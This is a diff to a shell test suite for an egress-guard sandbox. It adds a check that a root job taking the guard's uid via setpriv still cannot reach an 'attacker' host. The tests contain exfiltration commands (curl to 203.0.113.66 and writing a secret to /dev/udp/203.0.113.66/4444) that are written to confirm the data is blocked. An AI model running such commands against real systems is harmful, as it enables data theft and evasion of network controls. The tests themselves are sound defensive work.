@@ -179,6 +179,18 @@ check "DNS exfil straight to the .test DNS server (UDP and TCP) redirected" s_dn
 s_udp() { runner "echo udp-$SECRET > /dev/udp/203.0.113.66/4444" >/dev/null 2>&1; sleep 1; never_seen attacker "udp-$SECRET"; }
 check "UDP to an arbitrary port (203.0.113.66:4444) dropped" s_udp
 
+# Way out 4 (issue 10): the runner is root with CAP_SETUID and may take egress-guard's uid; the rules exempt that uid
+# only on sockets with egress-guard's random mark, so the switched job is redirected (TCP) or refused (UDP) like any.
+AS_EG="setpriv --reuid=10101 --regid=10101 --clear-groups"
+s_uid_switch() {
+  [ "$(runner "$AS_EG id -u")" = 10101 ] || return 1 # the switch itself works, so "nothing arrives" means something
+  runner "$AS_EG curl -sk --max-time 8 --noproxy '*' https://203.0.113.66/uid-switch-$TAG" >/dev/null 2>&1
+  runner "$AS_EG bash -c 'echo uid-switch-$SECRET > /dev/udp/203.0.113.66/4444'" >/dev/null 2>&1
+  sleep 1
+  never_seen attacker "/uid-switch-$TAG" && never_seen attacker "uid-switch-$SECRET"
+}
+check "a root job that takes egress-guard's uid (setpriv) reaches nothing: TCP and UDP" s_uid_switch
+
 # ulogd in the egress-guard container reads the rules' NFLOG reports; egress-guard makes them events.
 # The logs go to a file, and every grep in a pipe reads to the end (-c, not -q): a reader that stops at its first
 # match makes the writer die of SIGPIPE, which fails the check under pipefail once the logs outgrow a pipe buffer.
